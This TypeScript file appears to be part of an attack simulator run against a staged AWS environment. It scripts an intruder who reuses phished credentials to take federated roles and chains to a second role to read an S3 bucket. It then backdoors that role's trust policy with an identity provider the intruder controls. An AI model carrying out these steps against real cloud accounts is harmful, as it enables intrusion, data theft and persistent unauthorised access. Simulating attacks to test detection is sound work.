import { again, firstOpen } from "../adversary/again.ts";
import { BROWSER } from "../adversary/browser.ts";
import { once } from "../adversary/once.ts";
import { BucketReader, grabEverything } from "../adversary/bucket-reader.ts";
import { addOwnProvider, assumeByOwnProvider, openOwnProvider } from "../adversary/own-provider.ts";
import type { Aws, Credentials } from "../kit/aws.ts";
import { assumeByToken, roleArn, tokenOf } from "../kit/federation.ts";
import type { Behaviour, Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";
import { assumeNext, ISSUER } from "./people.ts";

export const LAIR = { ip: "198.51.100.213", userAgent: "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali" };
/** As long as the role allows: twelve hours. */
const LONGEST_SECONDS = 43_200;

/** All that the intruder holds at a moment. */
export interface Loot {
  password: string;
  /** A browser session at the company's identity provider, and the last token that it gave. */
  session: string;
  token: string;
  /** Sessions of the first role, the newest first, and of the second. */
  sessions: Credentials[];
  chained: Credentials[];
  /** A session at its own identity provider, once the account trusts that. */
  ownSession?: string;
}

/** Signs in with what the false page took from the user. */
export function enter({ identityProviders }: Stage, userName: string, password: string): string {
  const answer = identityProviders.signIn(
    ISSUER,
    { name: userName, password },
    { ip: LAIR.ip, userAgent: BROWSER },
  );
  if ("session" in answer) return answer.session;
  throw Object.assign(new Error(`the identity provider lets nobody in: ${answer.refusal}`), {
    code: answer.refusal,
  });
}

/**
 * Names of sessions: the user's own, which nobody looks at twice, and another for when that one is refused. Whoever
 * takes a role chooses, unless its trust asks for `sts:RoleSessionName`.
 */
const namesOf = ({ userName }: Facts): string[] => [userName, "ops-nightly"];

/** A session of the first role, of as long as there is. */
export const takeRole = (
  stage: Stage,
  facts: Facts,
  token: string,
  sessionName = facts.userName,
): Promise<Credentials> =>
  assumeByToken(stage, LAIR, {
    roleName: facts.roleName,
    sessionName,
    token,
    seconds: LONGEST_SECONDS,
  });

/**
 * Gets new sessions as long as a token is to be had, uses old ones as long as they work, and reads the data by the
 * second role, whichever way leads there.
 */
export function intruder(facts: Facts, loot: Loot): Behaviour[] {
  const reader = new BucketReader(facts.dataBucket);
  return [
    again("issuance", 30, `A new session of ${facts.roleName}`, async (stage) => {
      const token = newToken(stage, facts, loot);
      const fresh = await firstOpen(
        namesOf(facts).map((name) => async () => {
          const session = await takeRole(stage, facts, token, name);
          await look(stage.intruder(session, LAIR));
          return session;
        }),
      );
      loot.sessions = [fresh, ...loot.sessions.slice(0, 1)];
      return { what: `A new session of ${facts.roleName}: ${fresh.accessKeyId}` };
    }),
    again("federated-session", 20, `DescribeInstances with a session of ${facts.roleName}`, (stage) =>
      firstOpen(
        loot.sessions.map((session) => async () => {
          await look(stage.intruder(session, LAIR));
          return { what: `DescribeInstances with ${session.accessKeyId}` };
        }),
      ),
    ),
    again(
      "chained-session",
      20,
      `Read of s3://${facts.dataBucket} with a session of ${facts.chainedRoleName}`,
      (stage) =>
        firstOpen([
          ...loot.chained.map((session) => () => reader.readOne(stage.intruder(session, LAIR), stage)),
          ...waysOn(stage, facts, loot).map((way) => async () => {
            const session = await way();
            const read = await reader.readOne(stage.intruder(session, LAIR), stage);
            loot.chained = [session];
            return read;
          }),
        ]),
    ),
    grabEverything(240, facts.dataBucket, LAIR, () => loot.chained[0]!),
    once("own-provider", 360, (stage) => trustMe(stage, facts, loot), "An identity provider of its own"),
  ];
}

/** A token by the open session, by the password, or the last one as long as it lives. */
function newToken(stage: Stage, facts: Facts, loot: Loot): string {
  const answer = stage.identityProviders.token(loot.session, facts.application);
  if ("token" in answer) return (loot.token = answer.token);
  try {
    loot.session = enter(stage, facts.userName, loot.password);
    return (loot.token = tokenOf(stage, loot.session, facts.application));
  } catch {
    return loot.token;
  }
}

const look = (aws: Aws): Promise<unknown> => aws.ec2.describeInstances({ MaxResults: 5 });

/** Ways to a new session of the second role: from the first, and by the intruder's own identity provider. */
function waysOn(stage: Stage, facts: Facts, { sessions, ownSession }: Loot): (() => Promise<Credentials>)[] {
  const chain = sessions.flatMap((session) =>
    namesOf(facts).map(
      (name) => () => assumeNext(stage.intruder(session, LAIR), stage, facts.chainedRoleName, name),
    ),
  );
  if (ownSession === undefined) return chain;
  return [...chain, () => assumeByOwnProvider(stage, LAIR, ownSession, facts.chainedRoleName)];
}

/** Makes the account trust an identity provider that the intruder runs: a way back that needs nobody's account. */
async function trustMe(
  stage: Stage,
  facts: Facts,
  loot: Loot,
): Promise<{ gotThrough: true; what: string } | undefined> {
  const aws = stage.intruder(loot.sessions[0]!, LAIR);
  const Federated = await addOwnProvider(aws);
  await aws.iam.updateAssumeRolePolicy({
    RoleName: facts.chainedRoleName,
    PolicyDocument: JSON.stringify({
      Version: "2012-10-17",
      Statement: [
        { Effect: "Allow", Principal: { AWS: roleArn(stage, facts.roleName) }, Action: "sts:AssumeRole" },
        {
          Effect: "Allow",
          Principal: { Federated },
          Action: "sts:AssumeRoleWithWebIdentity",
        },
      ],
    }),
  });
  loot.ownSession = openOwnProvider(stage, LAIR);
  return { gotThrough: true, what: `${facts.chainedRoleName} trusts an identity provider of its own` };
}
